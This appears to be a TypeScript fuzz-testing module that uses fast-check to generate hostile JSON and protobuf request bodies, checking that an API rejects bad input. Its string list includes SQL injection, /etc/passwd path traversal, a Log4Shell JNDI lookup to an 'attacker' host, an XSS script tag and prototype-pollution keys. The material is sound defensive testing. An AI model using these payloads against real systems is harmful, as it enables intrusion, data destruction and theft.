// Hostile request bodies for every method, built from the method's own descriptor with
// fast-check: JSON with wrong types, huge strings, negative and overflowing int64, unknown enum
// values, absurd page sizes and timestamps, invalid UTF-8 bytes, malformed and truncated JSON,
// and binary protobuf bodies that are random, have invalid UTF-8 in string fields, over-long
// varints or wrong wire types.
//
// Every generated body is meant to be refused: values never form a valid request (no valid id,
// email, currency or request_id is ever generated), so that "nothing written" is a fair check.
import fc from "fast-check";
import { ScalarType, type DescField, type DescMessage, type DescMethod } from "@bufbuild/protobuf";

export interface HostileBody {
  /** "application/json" or "application/proto". */
  contentType: string;
  body: Buffer;
  /** A short description for failure messages. */
  label: string;
}

const HUGE = 300_000;
/** Replaced by raw invalid UTF-8 bytes after JSON.stringify. */
const INVALID_UTF8_MARK = "\u0001INVALID_UTF8\u0001";
const INVALID_UTF8 = Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc]);

const hostileStrings: unknown[] = [
  "",
  " ",
  "A".repeat(HUGE),
  "\u{1F4B8}".repeat(20_000),
  "\u0000\u0001\u0002",
  "\ud800",
  "\udfff\ud800",
  INVALID_UTF8_MARK,
  `x${INVALID_UTF8_MARK}x`,
  "'; DROP TABLE accounts; --",
  "../../../../etc/passwd",
  "%s%s%s%n",
  "${jndi:ldap://attacker/a}",
  "<script>alert(1)</script>",
  "00000000-0000-0000-0000-00000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffffff",
  "-1",
  "9".repeat(400),
  "usd",
  "US",
  "ZZZ",
  "@",
  "a@",
  "@b",
  "a@b@c",
  "\u202e\u202d",
];

const hostileInts: unknown[] = [
  -1,
  -2147483648,
  -2147483649,
  2147483647,
  2147483648,
  4294967296,
  "9223372036854775807",
  "9223372036854775808",
  "-9223372036854775808",
  "-9223372036854775809",
  "18446744073709551616",
  "1e400",
  "-0",
  "NaN",
  "Infinity",
  1.5,
  1e300,
  "0x10",
  " 1",
  "",
  true,
  [],
  {},
  null,
];

const hostileEnums: unknown[] = [999, -1, 2147483648, 1.5, "ROLE_GOD", "", "role_admin", "ACCOUNT_TYPE_", true, {}, []];
const hostileTimestamps: unknown[] = ["not-a-date", "10000-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "2024-13-45T99:99:99Z", "1970-01-01T00:00:00.0000000001Z", 12345, { seconds: "abc" }, "", "9999-12-31T23:59:59.999999999+99:99"];

function stringValue(field: DescField): fc.Arbitrary<unknown> {
  const hostile = fc.constantFrom(...hostileStrings);
  const wrongType = fc.oneof(fc.integer(), fc.boolean(), fc.constant(null), fc.constant([]), fc.constant({ a: 1 }));
  // Random text could, in theory, be a valid value; never for the fields that would let a
  // request succeed (emails, ids, request ids, currencies), so only for free-text fields.
  const freeText = /description|display|name|reason|password|prefix|action/i.test(field.name);
  return freeText ? fc.oneof(hostile, wrongType, fc.string({ maxLength: 40 })) : fc.oneof(hostile, wrongType);
}

function scalarValue(field: DescField, scalar: ScalarType): fc.Arbitrary<unknown> {
  switch (scalar) {
    case ScalarType.STRING:
      return stringValue(field);
    case ScalarType.BOOL:
      return fc.constantFrom("true", 1, "yes", null, {}, []);
    case ScalarType.BYTES:
      return fc.constantFrom("!!!not base64!!!", 12, "A".repeat(HUGE), INVALID_UTF8_MARK);
    case ScalarType.DOUBLE:
    case ScalarType.FLOAT:
      return fc.constantFrom("NaN", "1e999", "abc", {}, true);
    default:
      return fc.oneof(fc.constantFrom(...hostileInts), fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map(String));
  }
}

function messageValue(message: DescMessage, depth: number): fc.Arbitrary<unknown> {
  if (message.typeName === "google.protobuf.Timestamp") return fc.constantFrom(...hostileTimestamps);
  if (message.typeName === "google.protobuf.FieldMask") return fc.constantFrom("", "a,b", "display_name,,", "x".repeat(10_000), 5, ["a"], {});
  const wrong = fc.constantFrom("string", 42, [], null, true);
  return depth > 2 ? wrong : fc.oneof(wrong, objectValue(message, depth + 1));
}

function fieldValue(field: DescField, depth: number): fc.Arbitrary<unknown> {
  switch (field.fieldKind) {
    case "scalar":
      return scalarValue(field, field.scalar);
    case "enum":
      return fc.constantFrom(...hostileEnums);
    case "message":
      return messageValue(field.message, depth);
    case "list": {
      const element: fc.Arbitrary<unknown> =
        field.listKind === "scalar" ? scalarValue(field, field.scalar) : field.listKind === "enum" ? fc.constantFrom(...hostileEnums) : messageValue(field.message, depth);
      return fc.oneof(fc.array(element, { maxLength: 4 }), fc.constant(Array.from({ length: 20_000 }, () => 999)), fc.constantFrom("not a list", 7, {}));
    }
    case "map":
      return fc.oneof(fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }), fc.constantFrom([], "x", 1));
  }
}

/** A JSON object with a random subset of the message's fields (by JSON name or proto name), each
 * hostile, plus sometimes an unknown field. */
function objectValue(message: DescMessage, depth = 0): fc.Arbitrary<Record<string, unknown>> {
  const entries = message.fields.map((f) => fc.option(fc.tuple(fc.constantFrom(f.jsonName, f.name), fieldValue(f, depth)), { nil: undefined, freq: 2 }));
  return fc.tuple(fc.tuple(...entries), fc.option(fc.tuple(fc.constantFrom("unknownField", "__proto__", "constructor"), fc.jsonValue()), { nil: undefined })).map(([pairs, extra]) => {
    const obj: Record<string, unknown> = {};
    for (const pair of [...pairs, extra]) if (pair) Object.defineProperty(obj, pair[0], { value: pair[1], enumerable: true, writable: true, configurable: true });
    return obj;
  });
}

function jsonBody(text: string, label: string): HostileBody {
  const parts = text.split(JSON.stringify(INVALID_UTF8_MARK).slice(1, -1));
  const chunks: Buffer[] = [];
  parts.forEach((p, i) => {
    if (i > 0) chunks.push(INVALID_UTF8);
    chunks.push(Buffer.from(p, "utf8"));
  });
  return { contentType: "application/json", body: Buffer.concat(chunks), label };
}

function varint(n: number): Buffer {
  const bytes: number[] = [];
  let v = n >>> 0;
  while (v > 0x7f) {
    bytes.push((v & 0x7f) | 0x80);
    v >>>= 7;
  }
  bytes.push(v);
  return Buffer.from(bytes);
}

/** Binary protobuf bodies that are structurally hostile for this message. */
function binaryBodies(message: DescMessage): fc.Arbitrary<HostileBody> {
  const proto = (body: Buffer, label: string): HostileBody => ({ contentType: "application/proto", body, label });
  const fieldNumbers = message.fields.map((f) => f.number);
  const anyField = fieldNumbers.length > 0 ? fc.constantFrom(...fieldNumbers) : fc.constant(1);
  return fc.oneof(
    fc.uint8Array({ maxLength: 256 }).map((b) => proto(Buffer.from(b), "random bytes")),
    // A length-delimited field whose bytes are invalid UTF-8 (a string must be valid UTF-8).
    anyField.map((n) => proto(Buffer.concat([varint((n << 3) | 2), varint(INVALID_UTF8.length), INVALID_UTF8]), `field ${n}: invalid UTF-8`)),
    // A varint longer than 10 bytes (an overflowing int64).
    anyField.map((n) => proto(Buffer.concat([varint((n << 3) | 0), Buffer.alloc(11, 0xff), Buffer.from([0x01])]), `field ${n}: overlong varint`)),
    // A length prefix far beyond the body.
    anyField.map((n) => proto(Buffer.concat([varint((n << 3) | 2), varint(0x7fffffff), Buffer.from("abc")]), `field ${n}: length beyond body`)),
    // Wrong wire types: fixed64 / group start where a string or varint is declared.
    anyField.map((n) => proto(Buffer.concat([varint((n << 3) | 1), Buffer.alloc(8, 0xff)]), `field ${n}: fixed64 wire type`)),
    anyField.map((n) => proto(Buffer.concat([varint((n << 3) | 3), varint((n << 3) | 4)]), `field ${n}: group wire type`)),
    // A negative int64 (ten-byte varint of -1) for every varint field.
    fc.constant(proto(Buffer.concat(message.fields.filter((f) => f.fieldKind === "scalar" && f.scalar !== ScalarType.STRING && f.scalar !== ScalarType.BYTES).map((f) => Buffer.concat([varint((f.number << 3) | 0), Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x01])]))), "all varints -1")),
  );
}

/** Every kind of hostile body for `method`. */
export function hostileBodies(method: DescMethod): fc.Arbitrary<HostileBody> {
  const message = method.input;
  const fields = objectValue(message);
  return fc.oneof(
    { weight: 6, arbitrary: fields.map((o) => jsonBody(JSON.stringify(o), "hostile fields")) },
    { weight: 1, arbitrary: fc.jsonValue().map((v) => jsonBody(JSON.stringify(v) ?? "null", "random JSON")) },
    { weight: 1, arbitrary: fc.tuple(fields, fc.nat()).map(([o, cut]) => { const t = JSON.stringify(o); return jsonBody(t.slice(0, cut % Math.max(1, t.length)), "truncated JSON"); }) },
    { weight: 1, arbitrary: fc.constantFrom("", "{", "}", "[", "nul", "{\"a\":}", "{'a':1}", "\ufeff{}", "{\"requestId\":\"x\",\"requestId\":1}").map((t) => jsonBody(t, "malformed JSON")) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 64 }).map((b) => ({ contentType: "application/json", body: Buffer.from(b), label: "binary as JSON" })) },
    { weight: 3, arbitrary: binaryBodies(message) },
  );
}
